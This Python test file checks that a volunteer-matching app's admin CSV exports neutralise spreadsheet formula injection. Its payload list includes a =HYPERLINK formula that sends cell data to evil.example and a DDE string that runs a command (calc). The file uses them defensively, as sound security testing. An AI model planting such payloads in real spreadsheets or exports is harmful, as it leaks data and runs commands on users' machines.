"""Finding 8: no CSV export hands a spreadsheet a formula. A volunteer named =HYPERLINK(...)
was exported as a live formula in /admin/makkerpar.csv."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from models.mentees import Youth
from models.users import User
from models.volunteers import Volunteer
from tests.conftest import fresh

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+([.,]\d+)?([eE][+-]?\d+)?%?")
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klik")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
            " =1+1", "=cmd|' /C calc'!A0"]


def _cells(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


def _looks_like_formula(cell: str) -> bool:
    stripped = cell.lstrip(" ")
    return bool(stripped) and stripped[0] in DANGEROUS and not NUMBER.fullmatch(stripped)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_names_that_look_like_formulas_are_exported_as_text(as_role, session, world, payload):
    volunteer = session.get(Volunteer, world.volunteer.id)
    volunteer.first_name = payload
    youth = session.get(Youth, world.youth.id)
    youth.first_name = payload
    coordinator = session.get(User, world.coordinator.id)
    coordinator.name = payload
    session.add_all([volunteer, youth, coordinator])
    session.commit()
    client = as_role("admin")
    fresh(session)
    for path in ("/admin/makkerpar.csv", "/admin/oversigt.csv"):
        response = client.get(path)
        assert response.status_code == 200
        cells = _cells(response.data)
        assert [c for c in cells if _looks_like_formula(c)] == [], path
    cells = _cells(client.get("/admin/makkerpar.csv").data)
    assert any(c.startswith("'") and payload.strip() in c for c in cells)  # kept, readable, as text


@given(st.one_of(st.text(max_size=30), st.sampled_from(PAYLOADS), st.integers(), st.floats(allow_nan=False)))
def test_the_shared_writer_never_writes_a_formula_and_keeps_every_value_readable(value):
    from web.csvfile import csv_bytes

    [cell] = [c for c in _cells(csv_bytes([["x"], [value]])) if c != "x"] or [""]
    assert not _looks_like_formula(cell)
    text = str(value)
    assert cell in (text, "'" + text)


def test_every_csv_is_written_by_the_shared_writer():
    root = Path(__file__).resolve().parents[2]
    offenders = [str(p.relative_to(root)) for folder in ("web", "models") for p in (root / folder).rglob("*.py")
                 if "csv.writer(" in p.read_text(encoding="utf-8") and p.name != "csvfile.py"]
    assert offenders == [], f"write CSV with web.csvfile.csv_bytes: {offenders}"
